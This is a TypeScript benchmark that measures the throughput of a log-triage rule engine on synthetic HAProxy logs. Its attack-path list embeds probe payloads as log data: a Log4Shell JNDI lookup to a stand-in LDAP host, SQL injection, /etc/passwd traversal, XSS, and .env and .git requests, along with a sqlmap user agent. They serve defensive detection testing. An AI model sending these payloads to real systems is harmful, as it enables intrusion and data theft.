/**
 * Triage benchmark: lines per second through the rule engine with every
 * shipped rule loaded (config/rules), on one core. Prints figures; asserts
 * nothing about timings.
 *
 *   node --import tsx scripts/bench/triage.ts
 *
 * 1. a spray of 1,000,000 distinct client addresses (engine only, then
 *    parse + triage), with the heap after a full GC and the peak RSS;
 * 2. engine only: 300,000 ParsedLine objects (parsed once beforehand from a
 *    generated, realistic HAProxy log: 5,000 client addresses, pages and
 *    assets, 304s and 404s, logins, API calls, a few percent application
 *    lines, and attacks inside: probes, injections, scanners, enumeration,
 *    brute force, a 5xx storm, TLS failures, server events);
 * 3. parse + triage over the same raw lines.
 *
 * Knobs: BENCH_LINES (default 300000), BENCH_SPRAY (default 1000000).
 */
import v8 from 'node:v8';
import { runInNewContext } from 'node:vm';
import { performance } from 'node:perf_hooks';
import { loadavg } from 'node:os';
import { loadRules } from '../../src/pipeline/triage/load.js';
import { createTriage } from '../../src/pipeline/triage/engine.js';
import { parseLine } from '../../src/pipeline/parse/index.js';
import type { ParsedLine, SourceFormat } from '../../src/pipeline/types.js';

v8.setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc') as () => void;

const N = Number(process.env.BENCH_LINES ?? 300_000);
const SPRAY = Number(process.env.BENCH_SPRAY ?? 1_000_000);
const NOW = Date.UTC(2026, 10, 26);

let seed = 12345;
const rnd = () => {
  seed = (Math.imul(seed, 1103515245) + 12345) & 0x7fffffff;
  return seed / 0x7fffffff;
};
const pick = <T>(a: readonly T[]): T => a[Math.floor(rnd() * a.length)] as T;

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const p2 = (n: number) => (n < 10 ? `0${n}` : `${n}`);
function stamps(ms: number): [string, string] {
  const d = new Date(ms);
  const hms = `${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())}`;
  const mon = MONTHS[d.getUTCMonth()] as string;
  const msPart = String(d.getUTCMilliseconds()).padStart(3, '0');
  return [`${mon} ${p2(d.getUTCDate())} ${hms}`, `${p2(d.getUTCDate())}/${mon}/${d.getUTCFullYear()}:${hms}.${msPart}`];
}

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'okhttp/4.12.0',
];
const PAGES = ['/', '/pricing', '/docs/getting-started', '/blog/2026/11/release-notes', '/app/dashboard', '/app/projects/42', '/search?q=invoice+template&page=2', '/api/v1/orders?limit=50&offset=100'];
const ASSETS = ['/static/css/main.4f2a.css', '/static/js/app.91bc.js', '/static/img/logo.svg', '/static/fonts/inter.woff2'];
const ATTACK_PATHS = ['/.env', '/.git/config', '/wp-login.php', '/phpmyadmin/', '/index.php?id=1%27%20OR%20%271%27=%271', '/static/../../../../etc/passwd', '/?x=${jndi:ldap://198.51.100.5/a}', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E', '/backup.zip'];

function http(ms: number, ip: string, method: string, path: string, status: number, ua: string, opts: { backend?: string; server?: string; term?: string; host?: string } = {}): string {
  const [sys, acc] = stamps(ms);
  const server = opts.server ?? 's1';
  const timers = server === '<NOSRV>' ? '0/-1/-1/-1/0' : `${Math.floor(rnd() * 4)}/0/1/${Math.floor(rnd() * 80)}/${Math.floor(rnd() * 90)}`;
  return `${sys} lb haproxy[2231]: ${ip}:${30000 + Math.floor(rnd() * 30000)} [${acc}] web~ ${opts.backend ?? 'web-backend'}/${server} ${timers} ${status} ${200 + Math.floor(rnd() * 20000)} - - ${opts.term ?? '----'} 120/118/3/1/0 0/0 {${opts.host ?? 'www.example.com'}|${ua}} "${method} ${path} HTTP/1.1"`;
}

interface Raw {
  line: string;
  format: SourceFormat;
  source: string;
}

/** A realistic mixed log: ~50 lines a second of ordinary traffic over 5,000 clients, attacks inside. */
function generate(n: number): Raw[] {
  const out: Raw[] = [];
  const clients = Array.from({ length: 5000 }, (_, i) => `${[198, 203, 192, 100][i % 4]}.${(i >> 8) & 255}.${i & 255}.${1 + (i % 250)}`);
  let t = Date.UTC(2026, 10, 25, 8, 0, 0);
  for (let i = 0; i < n; i++) {
    t += Math.floor(rnd() * 40);
    const r = rnd();
    const ip = pick(clients);
    let line: string;
    if (r < 0.55) line = http(t, ip, 'GET', pick(ASSETS), rnd() < 0.4 ? 304 : 200, pick(UAS));
    else if (r < 0.8) line = http(t, ip, 'GET', pick(PAGES), 200, pick(UAS), { backend: 'app' });
    else if (r < 0.84) line = http(t, ip, 'GET', `/old/${Math.floor(rnd() * 300)}`, 404, pick(UAS));
    else if (r < 0.86) line = http(t, ip, 'POST', '/account/login', rnd() < 0.8 ? 302 : 401, pick(UAS), { backend: 'app' });
    else if (r < 0.9) line = http(t, ip, 'POST', '/api/v1/orders', 201, 'okhttp/4.12.0', { backend: 'api' });
    else if (r < 0.93) {
      out.push({ line: `{"time":"${new Date(t).toISOString()}","level":"${rnd() < 0.1 ? 'error' : 'info'}","msg":"handled request ${Math.floor(rnd() * 1e6)} in ${Math.floor(rnd() * 200)} ms","req_id":"${Math.floor(rnd() * 1e9).toString(16)}"}`, format: 'json', source: 'app-api' });
      continue;
    } else if (r < 0.95) {
      // Attacks from a small set of bad addresses.
      const bad = `203.0.113.${1 + Math.floor(rnd() * 40)}`;
      line = http(t, bad, 'GET', rnd() < 0.5 ? pick(ATTACK_PATHS) : `/${Math.floor(rnd() * 1e6).toString(36)}`, 404, rnd() < 0.2 ? 'sqlmap/1.8.2#stable (https://sqlmap.org)' : pick(UAS));
    } else if (r < 0.97) line = http(t, '203.0.113.200', 'GET', '/api/v1/products', 200, 'Go-http-client/1.1'); // a flood
    else if (r < 0.98) line = http(t, ip, 'GET', '/api/v2/orders', 503, pick(UAS), { backend: 'api', server: '<NOSRV>', term: 'SC--' });
    else if (r < 0.99) line = http(t, '203.0.113.201', 'POST', '/wp-login.php', 200, pick(UAS), { host: 'blog.example.com' });
    else if (r < 0.995) {
      const [sys, acc] = stamps(t);
      line = `${sys} lb haproxy[2231]: ${rnd() < 0.5 ? '203.0.113.202' : ip}:40112 [${acc}] web~/1: SSL handshake failure`;
    } else {
      const [sys] = stamps(t);
      line = rnd() < 0.5 ? `${sys} lb haproxy[2231]: Server api/s${1 + Math.floor(rnd() * 3)} is DOWN, reason: Layer4 timeout, check duration: 2001ms. 1 active and 0 backup servers left. 0 sessions active, 0 requeued, 0 remaining in queue.` : http(t, ip, 'GET', '/health', 200, 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)');
    }
    out.push({ line, format: 'haproxy', source: 'haproxy' });
  }
  return out;
}

const fmt = (n: number) => Math.round(n).toLocaleString('en-US');
const mb = (b: number) => `${(b / 1e6).toFixed(0)} MB`;

function main(): void {
  console.log(`triage benchmark, node ${process.version}, load average ${loadavg().map((x) => x.toFixed(2)).join(' ')}`);
  const { rules } = loadRules({ dir: 'config/rules' });
  const enabled = rules.filter((r) => r.enabled);
  console.log(`rules: ${enabled.length} (${enabled.map((r) => r.name).join(', ')})`);

  // 1. A spray of distinct addresses, first, so that the peak RSS is the engine's and the parser's, not the data set's below.
  gc();
  const heap0 = process.memoryUsage().heapUsed;
  {
    const t = createTriage(rules, { now: () => NOW });
    const line: ParsedLine = { ok: true, kind: 'http', time: 0, fields: { method: 'GET', status: 404, path: '/', backend: 'web', server: 's1', termination_state: '----', host: 'www.example.com', user_agent: UAS[0] } };
    const f = line.fields;
    const t0 = performance.now();
    for (let i = 0; i < SPRAY; i++) {
      f.client_ip = `${10 + (i >>> 24)}.${(i >>> 16) & 255}.${(i >>> 8) & 255}.${i & 255}`;
      f.path = `/p/${i & 1023}`;
      line.time = NOW + i;
      t.process(line, 'haproxy');
    }
    const ms = performance.now() - t0;
    gc();
    const s = t.stats();
    const keys = s.rules.reduce((a, r) => a + r.keys, 0);
    const evicted = s.rules.reduce((a, r) => a + r.evicted, 0);
    console.log(`\n1. ${fmt(SPRAY)} distinct client addresses, every line a 404 (engine only): ${fmt((SPRAY / ms) * 1000)} lines/s; heap after GC +${mb(process.memoryUsage().heapUsed - heap0)} (${fmt(keys)} subjects tracked, ${fmt(evicted)} evicted)`);
  }
  gc();
  {
    const t = createTriage(rules, { now: () => NOW });
    const t0 = performance.now();
    const base = Date.UTC(2026, 10, 25, 9, 0, 0);
    for (let i = 0; i < SPRAY; i++) {
      const ip = `${10 + (i >>> 24)}.${(i >>> 16) & 255}.${(i >>> 8) & 255}.${i & 255}`;
      const l = http(base + Math.floor(i / 20), ip, 'GET', `/p/${i & 1023}`, i % 3 === 0 ? 404 : 200, UAS[0] as string);
      t.process(parseLine(l, 'haproxy', { now: NOW }), 'haproxy', l);
    }
    const ms = performance.now() - t0;
    gc();
    console.log(`   the same through parse + triage (lines generated on the fly, a third 404): ${fmt((SPRAY / ms) * 1000)} lines/s incl. generation; heap after GC +${mb(process.memoryUsage().heapUsed - heap0)}; peak RSS ${mb(process.resourceUsage().maxRSS * 1024)}`);
    void t.stats();
    console.log('   (peak RSS counts garbage V8 had not yet collected; the live heap is the figure after GC. Under a heap cap,');
    console.log('    node --max-old-space-size=220 --import tsx scripts/bench/triage.ts, the same spray runs in under 300 MB RSS.)');
  }
  const raw = generate(N);
  const parsed: ParsedLine[] = raw.map((r) => parseLine(r.line, r.format, { now: NOW }));
  const unparsed = parsed.filter((p) => !p.ok).length;
  const kinds = new Map<string, number>();
  for (const p of parsed) kinds.set(p.kind, (kinds.get(p.kind) ?? 0) + 1);
  console.log(`\n${fmt(N)} lines generated (${[...kinds].map(([k, n]) => `${k} ${fmt(n)}`).join(', ')}; unparsed ${unparsed})`);

  // 2. Engine only: a fresh engine per run, best and median of 5 after a warm-up.
  const runEngine = () => {
    const t = createTriage(rules, { now: () => NOW });
    let findings = 0;
    const t0 = performance.now();
    for (let i = 0; i < parsed.length; i++) findings += t.process(parsed[i] as ParsedLine, (raw[i] as Raw).source, (raw[i] as Raw).line).length;
    return { ms: performance.now() - t0, findings, stats: t.stats() };
  };
  runEngine();
  const runs = Array.from({ length: 5 }, runEngine);
  const rates = runs.map((r) => (N / r.ms) * 1000).sort((a, b) => a - b);
  const last = runs[runs.length - 1] as (typeof runs)[number];
  console.log(`\n2. engine only (process(ParsedLine), all rules): median ${fmt(rates[2] as number)} lines/s, best ${fmt(rates[4] as number)} lines/s (${(1e6 / (rates[2] as number)).toFixed(2)} µs/line)`);
  console.log(`   findings per run: ${last.findings}: ${last.stats.rules.filter((r) => r.findings > 0).map((r) => `${r.name} ${r.findings}`).join(', ')}`);

  // 3. Parse + triage.
  const both: number[] = [];
  for (let k = 0; k < 3; k++) {
    const t = createTriage(rules, { now: () => NOW });
    const t0 = performance.now();
    for (let i = 0; i < raw.length; i++) {
      const r = raw[i] as Raw;
      t.process(parseLine(r.line, r.format, { now: NOW }), r.source, r.line);
    }
    both.push((N / (performance.now() - t0)) * 1000);
  }
  both.sort((a, b) => a - b);
  console.log(`3. parse + triage: median ${fmt(both[1] as number)} lines/s (best ${fmt(both[2] as number)})`);

  console.log(`\nload average at the end ${loadavg().map((x) => x.toFixed(2)).join(' ')}`);
}

main();
